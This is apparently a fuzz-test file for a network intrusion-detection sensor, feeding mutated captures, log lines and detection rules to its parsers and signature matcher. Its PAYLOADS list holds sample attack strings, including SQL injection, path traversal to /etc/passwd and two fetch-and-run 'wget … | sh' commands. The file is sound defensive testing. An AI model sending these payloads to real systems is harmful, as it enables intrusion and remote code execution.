"""Hostile bytes against everything that reads what strangers write (docs/fuzzing.md).

In the suite each target runs a few dozen examples; long, a process a target:

    python tests/fuzz/test_fuzz.py --seconds 600 [--target eve] [--seed 7]

A target raises nothing but what it promises, and what it gives can be sent on: that is all that is
asked here. What a search finds becomes a plain test beside the thing's others.
"""

from __future__ import annotations

import argparse
import faulthandler
import gzip
import logging
import lzma
import os
import random
import resource
import runpy
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from importlib.resources import files
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from agents.analyzer.core import AnalyzerCore, load_model
from agents.sensor.core import SensorCore
from agents.sensor.flows.decode import decode
from agents.sensor.http_watch import HttpWatch
from agents.sensor.inputs.events import Options
from agents.sensor.inputs.format_tables import TableError, load_table
from agents.sensor.inputs.intake import Intake
from agents.sensor.inputs.registry import make_parser
from agents.sensor.inputs.table_parser import TableParser
from agents.sensor.payloads.payload import PayloadReader
from agents.sensor.signatures.matcher import SignatureMatcher
from datasets.captures.pcap import CaptureError, RawPackets, read_capture
from ontology import fragments
from ontology.records import Alert, HostEvent
from rules.signatures.parse import Fault, Signature, read_rule, read_rules

Target = Callable[[st.DataObject], None]

EXAMPLES = 20
NOW_US = 1_795_000_000_000_000
LINK_TYPES = (1, 0, 12, 101, 108, 113, 228, 229, 276, 147)
_HERE = Path(__file__).resolve().parent
_SAMPLES = _HERE.parents[1] / "datasets" / "samples"


# --- raw material -------------------------------------------------------------------------------


@cache
def frames() -> list[bytes]:
    """Real frames of every sample, and some of the rarer shapes."""
    out: list[bytes] = []
    for path in sorted(_SAMPLES.glob("*.pcap.xz")):
        raw = next(read_capture(path))
        chosen = np.unique(np.linspace(0, len(raw) - 1, 12).astype(int))
        out += [raw.frame(int(i)) for i in chosen]
    tcp = struct.pack(">HHIIBBHHH", 40000, 80, 1, 1, 0x50, 24, 9, 0, 0) + b"GET / HTTP/1.1\r\n\r\n"
    six = (
        struct.pack(">IHBB", 6 << 28, len(tcp) + 24, 0, 64) + bytes(15) + b"\1" + bytes(15) + b"\2"
    )
    hop, fragment = bytes([43, 0, 1, 4]) + bytes(4), bytes([44, 0, 0, 0]) + bytes(4)
    six += hop + fragment + struct.pack(">BBHI", 6, 0, 1, 7) + tcp
    tag = struct.pack(">HHHH", 0x88A8, 5, 0x8100, 6)
    out += [bytes(12) + b"\x86\xdd" + six, bytes(12) + tag + b"\x86\xdd" + six, six]
    arp = struct.pack(">HHBBH", 1, 0x800, 6, 4, 1) + bytes(20)
    return [*out, bytes(12) + b"\x08\x06" + arp, bytes(12) + b"\x81\x00\0\5\x08\x06" + arp, b""]


_SPECIAL = (
    b"",
    b"\0",
    b"\xff",
    b"\xff\xff",
    b"\0\0\0\0",
    b"\xff\xff\xff\xff",
    b"\x7f\xff",
    b"\x80\0",
)


@st.composite
def edits(draw: st.DrawFn, original: bytes, most: int = 5) -> bytes:
    """``original`` with some stretches replaced, repeated, left out, or its end cut off."""
    data = bytearray(original)
    for _ in range(draw(st.integers(0, most))):
        # Beginnings are where headers are; a whole-range draw would hardly ever hit one.
        at = draw(st.integers(0, min(len(data), 64)) | st.integers(0, len(data)))
        size = draw(st.integers(0, 4) | st.integers(0, 64))
        match draw(st.integers(0, 4)):
            case 0:
                data[at : at + 1] = draw(st.binary(min_size=1, max_size=1))
            case 1:
                data[at : at + size] = draw(st.sampled_from(_SPECIAL) | st.binary(max_size=12))
            case 2:
                data[at:at] = data[at : at + size] * draw(st.integers(1, 3))
            case 3:
                del data[at : at + size]
            case _:
                del data[at:]
    return bytes(data)


@st.composite
def raw_packets(draw: st.DrawFn, payloads: st.SearchStrategy[bytes] | None = None) -> RawPackets:
    """A block as capture or file gives it: bytes and claims about them that needn't be true."""
    one = payloads if payloads is not None else st.sampled_from(frames()).flatmap(edits)
    found = draw(st.lists(one, min_size=1, max_size=8))
    found *= draw(st.sampled_from((1, 1, 1, 40)))
    lengths = np.array([len(f) for f in found], np.int64)
    more = draw(st.sampled_from((0, 0, 4, 1500, 70_000)))
    begin = draw(st.integers(0, (1 << 32) * 1_000_000))
    steps = draw(st.sampled_from((0, 1, 1000, 60_000_000, -1000)))
    times = np.clip(begin + steps * np.arange(len(found)), 0, (1 << 32) * 1_000_000)
    data = np.frombuffer(b"".join(found) + bytes(64), np.uint8)
    link = draw(st.just(1) | st.sampled_from(LINK_TYPES))
    return RawPackets(data, np.cumsum(lengths) - lengths, lengths, lengths + more, times, link)


def sendable(records: list[object]) -> None:
    for record in records:
        assert fragments.decode(fragments.encode([record])) == (record,)  # type: ignore[list-item]


# --- targets ------------------------------------------------------------------------------------


@cache
def _model() -> object:
    return load_model()


def packets(data: st.DataObject) -> None:
    """Decoder, flow table, payload look-up and analyzer, over several blocks."""
    core = SensorCore("sensor", max_flows=data.draw(st.sampled_from((2, 64, 4096))))
    analyzer = AnalyzerCore(_model(), analyzer="a", honeypots=[])  # type: ignore[arg-type]
    seen = 0
    for _ in range(data.draw(st.integers(1, 3))):
        raw = data.draw(raw_packets())
        columns = decode(raw)
        told = columns.other + columns.malformed.total() + columns.unread.total()
        assert len(columns) + told == columns.total == len(raw)
        seen += len(raw)
        core.on_packets(raw)
        batches = core.take_batches(core.last_us, final=data.draw(st.booleans()))
        for batch in batches:
            sendable([batch])
            sendable(list(analyzer.on_batch(batch)))
    batches = core.take_batches(core.last_us, final=True)
    sendable(list(batches))
    for batch in batches:
        sendable(list(analyzer.on_batch(batch)))
    assert core.counters["packets"] + core.counters["duplicates"] == seen


def _read(content: bytes) -> None:
    with tempfile.NamedTemporaryFile(suffix=".pcap") as file:
        file.write(content)
        file.flush()
        try:
            for raw in read_capture(Path(file.name), block_bytes=4096):
                decode(raw)
        except CaptureError as e:
            assert "\n" not in str(e)


def _packed(data: st.DataObject, content: bytes) -> bytes:
    match data.draw(st.integers(0, 5)):
        case 0:
            return data.draw(edits(gzip.compress(content, 1)))
        case 1:
            return data.draw(edits(lzma.compress(content, preset=0)))
        case _:
            return content


def pcap(data: st.DataObject) -> None:
    """Capture files of the old format, plain and compressed."""
    order = data.draw(st.sampled_from("<>"))
    magic = data.draw(st.sampled_from((0xA1B2C3D4, 0xA1B23C4D)))
    link = data.draw(st.sampled_from(LINK_TYPES))
    out = struct.pack(order + "IHHiIII", magic, 2, 4, 0, 0, 65535, link)
    for frame in data.draw(st.lists(st.sampled_from(frames()), max_size=6)):
        out += struct.pack(order + "IIII", 1, 2, len(frame), len(frame)) + frame
    _read(_packed(data, data.draw(edits(out))))


def pcapng(data: st.DataObject) -> None:
    """Capture files of the new format: blocks of every kind, in any order, with any lengths."""
    order = data.draw(st.sampled_from("<>"))
    numbers = st.integers(0, 8) | st.integers(0, (1 << 32) - 1)

    def block(kind: int, body: bytes) -> bytes:
        body += bytes(-len(body) % 4)
        size = len(body) + 12
        return struct.pack(order + "II", kind, size) + body + struct.pack(order + "I", size)

    out = block(0x0A0D0D0A, struct.pack(order + "IHHq", 0x1A2B3C4D, 1, 0, -1))
    options = st.binary(max_size=16) | st.just(struct.pack(order + "HHB3xHH", 9, 1, 9, 0, 0))
    for _ in range(data.draw(st.integers(0, 8))):
        frame = data.draw(st.sampled_from(frames()))
        match data.draw(st.integers(0, 5)):
            case 0:
                out += block(0x0A0D0D0A, struct.pack(order + "IHHq", 0x1A2B3C4D, 1, 0, -1))
            case 1 | 2:
                link = data.draw(st.sampled_from(LINK_TYPES))
                out += block(1, struct.pack(order + "HHI", link, 0, 0) + data.draw(options))
            case 3:
                head = struct.pack(
                    order + "IIIII", 0, 1, data.draw(numbers), len(frame), len(frame)
                )
                out += block(6, head + frame)
            case 4:
                out += block(3, struct.pack(order + "I", len(frame)) + frame)
            case _:
                out += block(data.draw(numbers), data.draw(st.binary(max_size=24)))
    _read(_packed(data, data.draw(edits(out))))


PAYLOADS = (
    b"GET /a.php?id=1%27%20UNION%20SELECT%201,2--%20 HTTP/1.1\r\nHost: x\r\nCookie: a=b\r\n\r\n",
    b"POST /%2e%2e/%2e%2e/etc/passwd HTTP/1.0\r\nContent-Length: 30\r\n\r\n<script>alert(1)",
    b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic\r\n\r\n",
    b"USER root\r\nPASS secret\r\n",
    b"530 Login incorrect.\r\n",
    b"535 5.7.8 authentication failed\r\n",
    b"\xff\xfd\x18\xff\xfd\x20login: root\r\nPassword: x\r\nLogin incorrect\r\n# ",
    b"SSH-2.0-OpenSSH_9.6\r\n",
    b"-ERR [AUTH] Invalid login\r\na1 NO [AUTHENTICATIONFAILED] failed\r\n",
    b"uid=0(root) gid=0(root)\n/etc/shadow|;wget http://x/y -O- | sh\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40),
    b"\0\1\0\0\0\6\1\6\0\0\0\7",
    b"\3\0\0\x1f\2\xf0\x80\x32\1\0\0\0\1\0\x0e\0\0\x29" + bytes(13),
    b"cat /proc/mounts; /bin/busybox ECCHI\r\nwget http://192.0.2.6/x; sh x\r\n",
    b"\0\0\0\x50\xffSMB\x25" + bytes(56) + b"\x23\0\0\0",
    b"\0\0\0\x80\xfeSMB\x40" + bytes(11) + b"\t" + bytes(53) + b"\x70\0" + bytes(44) + b"MZ",
    b"\3\0\0\x40\2\xf0\x80\x7f\x65" + bytes(40) + b"MS_T120\0",
    b"REGISTER sip:h SIP/2.0\r\nCall-ID: a\r\nCSeq: 1 REGISTER\r\nAuthorization: Digest\r\n\r\n",
    b"INVITE sip:00972592277524@h SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n",
    b"SIP/2.0 401 No\r\nCall-ID: a\r\nCSeq: 1 REGISTER\r\n\r\n",
    b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01",
)
PORTS = (
    20,
    21,
    22,
    23,
    25,
    53,
    80,
    102,
    110,
    143,
    443,
    445,
    502,
    587,
    1434,
    3306,
    3389,
    5060,
    8080,
    40000,
    0,
)


def _framed(payload: bytes, ports: tuple[int, int], udp: bool) -> bytes:
    head = struct.pack(">HHIIBBHHH", *ports, 1, 1, 0x50, 24, 9, 0, 0)
    if udp:
        head = struct.pack(">HHHH", *ports, min(8 + len(payload), 65535), 0)
    size = min(20 + len(head) + len(payload), 65535)
    ip = struct.pack(">BBHHHBBHII", 0x45, 0, size, 0, 0, 64, 17 if udp else 6, 0, 1, 2)
    return bytes(12) + b"\x08\0" + ip + head + payload


_port = st.sampled_from(PORTS)
_payload = (
    st.sampled_from(PAYLOADS).flatmap(edits)
    | st.binary(max_size=200)
    | st.builds(bytes.__mul__, st.sampled_from(PAYLOADS).flatmap(edits), st.integers(1, 200))
)
_payload_frame = st.builds(_framed, _payload, st.tuples(_port, _port), st.booleans())


def payload(data: st.DataObject) -> None:
    """The look-up of logins, attack strings and probes."""
    columns = decode(data.draw(raw_packets(_payload_frame)))
    marks = PayloadReader().look_up(columns)
    assert np.all(np.diff(marks.index) > 0)
    assert not len(marks.index) or marks.index[-1] < len(columns)


_COOKIE = b"PHPSESSID=4f66ad9a0b2e4c7d9e81"
HTTP = (
    b"GET /a HTTP/1.1\r\nUser-Agent: x\r\nCookie: a=b; " + _COOKIE + b"\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nSet-Cookie: " + _COOKIE + b"; Path=/\r\nset-cookie: a=b\r\n\r\nhi",
    b"POST /b HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n" + bytes(range(256)),
    b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n" + bytes(range(255, 0, -1)),
    bytes(range(0, 256, 3)) * 2,
    b"PUT / HTTP/1.1\r\n",
)
_web_ports = st.sampled_from(((4000, 80), (80, 4000), (4001, 80), (80, 4001)))
_web_frame = st.builds(
    _framed, st.sampled_from(HTTP).flatmap(edits), _web_ports, st.just(value=False)
)


def http(data: st.DataObject) -> None:
    """Sessions by their cookies, and tunnels in bodies, over several blocks."""
    watch = HttpWatch("sensor")
    for _ in range(data.draw(st.integers(1, 3))):
        sendable(list(watch.on_packets(decode(data.draw(raw_packets(_web_frame))))))


def _part(body: bytes) -> bytes:
    head = bytes(12) + struct.pack(">H", min(len(body) + 8, 65535))
    return head + b"\xaa\xaa\3\0\0\0\x08\0" + body + bytes(-(len(body) + 22) % 4)


_parts = st.lists(st.sampled_from(frames()).map(lambda frame: _part(frame[14:])), max_size=4)
_wifi_frame = _parts.map(
    lambda parts: b"\x88\2\0\0" + bytes(20) + b"\x80\0" + b"".join(parts)
).flatmap(edits)


def wifi(data: st.DataObject) -> None:
    """802.11 frames of several packets."""
    raw = replace(data.draw(raw_packets(_wifi_frame)), link_type=105)
    columns = decode(raw)
    assert columns.total == len(raw)
    assert not len(columns) or 0 <= columns.index.min() <= columns.index.max() < len(raw)
    assert np.all(np.diff(columns.index) >= 0)
    SensorCore("sensor").on_packets(raw)


RULES = tuple(
    f'alert {header} (msg:"m"; {options} classtype:web-application-attack; rev:1; sid:{sid};)'
    for sid, (header, options) in enumerate(
        (
            ("tcp any any -> any 80", 'flow:to_server; content:"UNION"; nocase; http_uri;'),
            ("tcp any any -> any any", 'content:"a"; content:"b"; distance:-4; within:9;'),
            ("tcp any any -> any any", 'content:"PASS"; pcre:"/^PASS\\s+\\S{3,}/smi";'),
            ("tcp any 21:25 -> any any", 'content:"530"; depth:3; content:!"xx"; within:40;'),
            ("udp any any -> any 53", 'content:"|00 01|"; offset:2; byte_test:2,<,9,4;'),
            ("tcp any any <> any [80,8080]", 'content:"%2e"; rawbytes; isdataat:!40,relative;'),
            ("http any any -> any any", 'content:"/etc"; http_uri; urilen:>4;'),
            ("tcp any any -> any any", 'byte_jump:2,0,relative; content:"|00|"; within:1;'),
            ("ip any any -> any any", 'dsize:0<>20; content:"root"; endswith;'),
            ("tcp any any -> any any", 'content:"b"; pcre:"/(a|b)*c{1,9}$/R"; flags:A+;'),
            ("http any any -> any any", 'http.header; content:"Host: a"; content:!"x";'),
            ("http any any -> any any", 'file.data; content:"root"; flowbits:set,x; noalert;'),
            ("http any any -> any any", 'http.user_agent; content:"sql"; bsize:<9;'),
            ("dns any any -> any any", 'dns.query; dotprefix; content:".a"; endswith;'),
            ("tls any any -> any any", 'tls.sni; to_lowercase; content:"a.b";'),
            ("tls any any -> any any", 'tls.cert_subject; content:"CN=a"; flowbits:isset,x;'),
            ("ip any any -> any any", 'content:"a"; xbits:isnotset,y,track ip_src;'),
            ("icmp any any -> any any", "itype:8; icode:0;"),
            ("tcp any any -> any any", 'content:"uid="; content:"gid="; within:20; nocase;'),
            ("tcp any any -> any any", 'uricontent:"/a.php"; content:"Host"; http_header;'),
        ),
        1,
    )
)
_OPTIONS = (
    'content:"', "|", '";', "depth:", "offset:-1;", "within:99999999999;", "distance:2;", "nocase;",
    'pcre:"/', "(?:a{1000}){1000}", '/RU";', "byte_test:4,>,", "byte_jump:4,0,", "flow:", "!", "[",
    "$HOME_NET", "sid:", "\\", ";", ":", ")", "isdataat:", "urilen:", "flags:", "dsize:", "-1", "/",
    "startswith;", "http.uri;", "file.data;", "dns.query;", "tls.certs;", "dotprefix;",
    "bsize:", "flowbits:isset,", "xbits:set,y,track ip_src;", "threshold:type both, count 2,",
    "0x", "²", "\0", "(", "http_uri;", "<>", "metadata:", "relative",
)  # fmt: skip


def rule_parser(data: st.DataObject) -> None:
    """Rules: read or named as faults; what is executable can be matched."""
    lines = []
    for line in data.draw(st.lists(st.sampled_from(RULES), max_size=3)):
        raw = data.draw(edits(line.encode("latin-1"), most=3)).decode("latin-1")
        for _ in range(data.draw(st.integers(0, 3))):
            at = data.draw(st.integers(0, len(raw)))
            raw = raw[:at] + data.draw(st.sampled_from(_OPTIONS)) + raw[at:]
        lines.append(raw)
    lines.append(data.draw(st.text(max_size=40)))
    good = []
    for item in read_rules("\n".join(lines), Path("x.rules")):
        assert isinstance(item, Signature | Fault)
        if isinstance(item, Signature):
            repr(item), item.iri.encode("ascii"), item.message.encode("utf-8")
            good.append(item)
    _both_ways(good, data.draw(raw_packets(_payload_frame)))


@cache
def _signatures() -> tuple[Signature, ...]:
    found = tuple(read_rule(line) for line in RULES)
    assert all(signature.executable for signature in found)
    return found


def _both_ways(signatures: list[Signature], raw: RawPackets) -> None:
    """The multi-pattern search must find what trying every rule finds, unless budgets end."""
    fast, plain = SignatureMatcher(signatures), SignatureMatcher(signatures, multi_pattern=False)
    columns = decode(raw)
    one, two = fast.match(columns), plain.match(columns)
    if not fast.counters["budget-spent"] and not plain.counters["budget-spent"]:
        assert one.packet.tolist() == two.packet.tolist()
        assert one.signature.tolist() == two.signature.tolist()


@cache
def _matchers() -> tuple[SignatureMatcher, SignatureMatcher]:
    chosen = _signatures()
    return SignatureMatcher(chosen), SignatureMatcher(chosen, multi_pattern=False)


def signature_matcher(data: st.DataObject) -> None:
    """Payloads against rules, by the fast and by the plain way."""
    fast, plain = _matchers()
    before = fast.counters["budget-spent"] + plain.counters["budget-spent"]
    columns = decode(data.draw(raw_packets(_payload_frame | st.sampled_from(frames()))))
    one, two = fast.match(columns), plain.match(columns)
    if before == fast.counters["budget-spent"] + plain.counters["budget-spent"]:
        assert one.packet.tolist() == two.packet.tolist()
        assert one.signature.tolist() == two.signature.tolist()


@cache
def _lines() -> dict[str, tuple[str, ...]]:
    found = runpy.run_path(str(_HERE.parent / "agents/sensor/inputs/conftest.py"))["LINES"]
    return {kind: tuple(found[kind]) for kind in found}


_HOSTILE = (
    b'"\\ud800"', b"1e999", b"NaN", b"-1", b"null", b"[]", b"{}", b"99999999999999999999",
    b"\xff", b"\xed\xa0\x80", b"\xc2\xb2", b"\xef\xbb\xbf", b"::ffff:1.2.3.4%eth0",
    b'"\\u0000"', b"0001-01-01T00:00:00",
    b"9999-12-31T23:59:60Z", b"\t", b"#fields\t", b"=", b"\x1b[2J", b'"', b",", b"}", b"true",
)  # fmt: skip


def _log(kind: str) -> Target:
    def target(data: st.DataObject) -> None:
        good = [line.encode() for line in _lines()[kind]]
        lines = []
        for line in data.draw(st.lists(st.sampled_from(good), min_size=1, max_size=8)):
            line = data.draw(edits(line, most=3))
            if data.draw(st.booleans()):
                at = data.draw(st.integers(0, len(line)))
                end = data.draw(st.integers(at, min(at + 30, len(line))))
                line = line[:at] + data.draw(st.sampled_from(_HOSTILE)) + line[end:]
            lines.append(line.replace(b"\n", b" "))
        intake = Intake(make_parser(kind, Options()), sensor="sensor")
        if data.draw(st.booleans()):
            lines = [*good, *lines]
        for begin in range(0, len(lines), 3):
            records = intake.on_lines(lines[begin : begin + 3], f"m{begin}", NOW_US)
            sendable(list(records))
            memory = intake.parser.memory()
            assert len(memory) <= 65_536
            fresh = make_parser(kind, Options())
            fresh.remember(memory)
            assert fresh.memory() == memory
        assert intake.counters["refused.fault"] == 0
        for record in records:
            if isinstance(record, Alert):
                assert record.explanation.isprintable()
            elif isinstance(record, HostEvent):
                shown = record.user_name, record.program, record.command_line
                assert all(text.isprintable() for text in (*shown, record.file_path))

    target.__doc__ = f"Lines of {kind}."
    return target


def tables(data: st.DataObject) -> None:
    """Lines of any format that is a table; and tables themselves, edited."""
    kind = data.draw(st.sampled_from(_formats()))
    if data.draw(st.booleans()):
        _log(kind)(data)
        return
    path = files("agents.sensor.inputs").joinpath("formats").joinpath(f"{kind}.toml")
    text = data.draw(edits(path.read_bytes(), most=3)).decode("utf-8", "replace")
    try:
        table = load_table(text, kind)
    except TableError as e:
        assert str(e).isprintable()
        return
    parser = TableParser(Options(), table)
    intake = Intake(parser, sensor="sensor")
    sendable(list(intake.on_lines([line.encode() for line in _lines()[kind]], "m", NOW_US)))
    assert intake.counters["refused.fault"] == 0


@cache
def _formats() -> tuple[str, ...]:
    folder = files("agents.sensor.inputs").joinpath("formats")
    return tuple(sorted(entry.name.removesuffix(".toml") for entry in folder.iterdir()))


TARGETS: dict[str, Target] = {
    "tables": tables,
    "packets": packets,
    "pcap": pcap,
    "pcapng": pcapng,
    "payload": payload,
    "http": http,
    "wifi": wifi,
    "rules": rule_parser,
    "signatures": signature_matcher,
    **{
        kind: _log(kind)
        for kind in (
            "audit",
            "cowrie",
            "dionaea",
            "eve",
            "syslog",
            "wtmp",
            "zeek",
        )
    },
}


@pytest.mark.parametrize("name", TARGETS)
def test_target(name: str) -> None:
    _search(name, EXAMPLES, None)


# --- the long run -------------------------------------------------------------------------------


def _search(name: str, examples: int, number: int | None) -> int:
    """Run one target on so many examples; ``number`` seeds the search. Returns how many ran."""
    ran = 0
    target = TARGETS[name]

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=number is None,
        phases=(Phase.generate, Phase.shrink),
        suppress_health_check=list(HealthCheck),
        print_blob=True,
    )
    @given(data=st.data())
    def once(data: st.DataObject) -> None:
        nonlocal ran
        ran += 1
        target(data)

    (once if number is None else seed(number)(once))()
    return ran


def _run(name: str, seconds: float, number: int) -> int:
    """One target in this process. Returns how often it failed."""
    faulthandler.enable()
    logging.disable(logging.WARNING)  # of captures cut short: that is what is fed here
    end = time.monotonic() + seconds
    ran = failed = 0
    while (left := end - time.monotonic()) > 0:
        # What hangs is shown, and ends this process: no input may take so long.
        faulthandler.dump_traceback_later(max(300.0, left / 2), exit=True)
        try:
            ran += _search(name, 300, number)
        except Exception as e:  # what is looked for
            import traceback

            failed += 1
            print(f"{name}: FAILED with seed {number}: {type(e).__name__}: {e}"[:2000], flush=True)
            traceback.print_exc(file=sys.stdout)
            if failed >= 20:
                break
        faulthandler.cancel_dump_traceback_later()
        number += 1
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(
        f"{name}: {ran} inputs, {failed} failures, next seed {number}, peak {peak} MiB", flush=True
    )
    return failed


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--seconds", type=float, default=600.0, help="for each target")
    parser.add_argument("--target", choices=TARGETS, action="append")
    parser.add_argument("--seed", type=int, default=None, help="of the first search")
    parser.add_argument("--here", action="store_true", help="in this process, one target")
    arguments = parser.parse_args()
    number = (
        arguments.seed if arguments.seed is not None else random.SystemRandom().randrange(1 << 30)
    )
    names = arguments.target or list(TARGETS)
    if arguments.here:
        return 1 if _run(names[0], arguments.seconds, number) else 0
    bad = []
    for name in names:
        print(f"{name}: {arguments.seconds:.0f} s from seed {number}", flush=True)
        command = [sys.executable, __file__, "--here", "--target", name, "--seed", str(number)]
        command += ["--seconds", str(arguments.seconds)]
        # A process a target: even a crash of compiled code ends only its own search.
        if subprocess.run(command, env=os.environ | {"OMP_NUM_THREADS": "1"}).returncode:
            bad.append(name)
    print(f"failed: {', '.join(bad)}" if bad else "no target failed", flush=True)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
